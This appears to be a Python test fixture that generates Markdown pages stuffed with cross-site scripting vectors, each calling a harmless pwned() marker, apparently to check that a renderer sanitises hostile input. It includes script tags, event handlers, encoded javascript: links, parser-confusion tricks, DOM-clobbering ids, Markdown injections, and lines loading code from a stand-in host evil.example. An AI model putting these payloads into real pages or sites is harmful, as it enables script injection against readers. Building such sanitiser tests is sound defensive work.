"""Documents that try to run something in a reader's browser. Every vector calls `pwned()`."""

TAGS = ["img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee", "object", "embed", "form"]
EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter"]

LINKS = [
    "javascript:pwned()", "JavaScript:pwned()", "jAvAsCrIpT:pwned()", " javascript:pwned()",
    "java\tscript:pwned()", "java&#10;script:pwned()", "&#106;avascript:pwned()", "javascript&colon;pwned()",
    "javascript&#58;pwned()", "\u0001javascript:pwned()", "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", "vbscript:pwned()", "feed:javascript:pwned()",
    "view-source:javascript:pwned()", "blob:null/pwned()", "javascript://%0apwned()", "//evil.example/pwned.js",
    "file:///etc/passwd", "filesystem:http://x/pwned",
]

RAW = [
    "<script>pwned()</script>", "<SCRIPT>pwned()</SCRIPT>", "<script src=//evil.example/pwned.js></script>",
    "<script\n>pwned()</script>", "<scr<script>ipt>pwned()</scr</script>ipt>", "<script/xss>pwned()</script>",
    "<svg><script>pwned()</script></svg>", "<svg/onload=pwned()>", "<svg><animate onbegin=pwned() attributeName=x>",
    "<math><mtext></p><img src=x onerror=pwned()>", "<math href=javascript:pwned()>x</math>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>", "<iframe src=javascript:pwned()></iframe>",
    "<object data=javascript:pwned()></object>", "<embed src=javascript:pwned()>",
    "<base href=javascript:pwned()//>", "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:pwned())}</style>", "<div style='background:url(javascript:pwned())'>x</div>",
    "<div style=width:expression(pwned())>x</div>", "<form action=javascript:pwned()><button>go</button></form>",
    "<button formaction=javascript:pwned()>go</button>", "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>", "<textarea autofocus onfocus=pwned()>", "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>", "<audio src=x onerror=pwned()>", "<isindex type=image src=1 onerror=pwned()>",
    "<img src='x' onerror='pwned()'>", "<img src=x onerror=pwned()//", "<img \"\"\"><script>pwned()</script>\">",
    "<img src=`x` onerror=pwned()>", "<a href=javascript:pwned()>x</a>", "<a href='java\nscript:pwned()'>x</a>",
    "<a href=\"&#x6A;avascript:pwned()\">x</a>", "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
    "<template><script>pwned()</script></template>", "<title></title><script>pwned()</script>",
    "<textarea></textarea><script>pwned()</script>", "<!--><script>pwned()</script>-->", "<!-- --!><script>pwned()</script>",
    "<![CDATA[<script>pwned()</script>]]>", "<?xml version='1.0'?><script>pwned()</script>",
    "<xmp><script>pwned()</script></xmp>", "<plaintext><script>pwned()</script>", "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
    "<p id=ui:q>x</p>", "<p id=ui:main>x</p>", "<form id=ui:near><input name=hidden></form>", "<a id=location href=x>x</a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()>#x'></svg>", "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
    "<svg><foreignObject><script>pwned()</script></foreignObject></svg>", "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<table background=javascript:pwned()><tr><td>x</td></tr></table>", "<td onmouseover=pwned()>x</td>",
    "<mark class=fill onclick=pwned()>x</mark>", "<span class='line' onmouseover=pwned()>x</span>",
    "<a class=ln href=javascript:pwned()>1</a>", "<pre tabindex=0 onfocus=pwned()>x</pre>",
    "\"><script>pwned()</script>", "'><img src=x onerror=pwned()>", "</code></pre></div><script>pwned()</script>",
    "</main><script>pwned()</script>", "</article></main></body><script>pwned()</script>",
]

MARKDOWN = [
    "![x](javascript:pwned())", "![x](x\" onerror=\"pwned())", "[x]: javascript:pwned()\n\n[x]",
    "<javascript:pwned()>", "[<img src=x onerror=pwned()>](x)", "`<script>pwned()</script>`",
    "```\n<script>pwned()</script>\n```", "```<script>pwned()</script>\nx\n```", "```\" onclick=pwned() x=\"\nx\n```",
    "    <script>pwned()</script>", "| <script>pwned()</script> |\n|---|\n| <img src=x onerror=pwned()> |",
    "- [x] <img src=x onerror=pwned()>", "x[^1]\n\n[^1]: <script>pwned()</script>", "## <script>pwned()</script>",
    "## x {#\"><script>pwned()</script>}", "> <iframe src=javascript:pwned()></iframe>",
    "[x](https://x.example/\"onmouseover=\"pwned())", "[x](<javascript:pwned()>)", "![<script>pwned()</script>](x.png)",
    "<host onclick=pwned()>", "<b onclick=pwned()>x</b> <host>", "ssh <host><script>pwned()</script>",
]


def vectors():
    """All of them, as Markdown."""
    found = [f"<{tag} src=x {event}=pwned()>" for tag in TAGS for event in EVENTS]
    found += [f"[link]({link})" for link in LINKS] + [f"<a href=\"{link}\">raw</a>" for link in LINKS]
    return found + RAW + MARKDOWN


def document(part):
    """One document with some of the vectors, each under a heading of its own."""
    lines = ["# Hostile page"]
    for n, vector in part:
        lines += ["", f"## Vector number {n} zebra{n}", "", vector, "", f"Text zebra{n} after it.", ""]
    return "\n".join(lines)
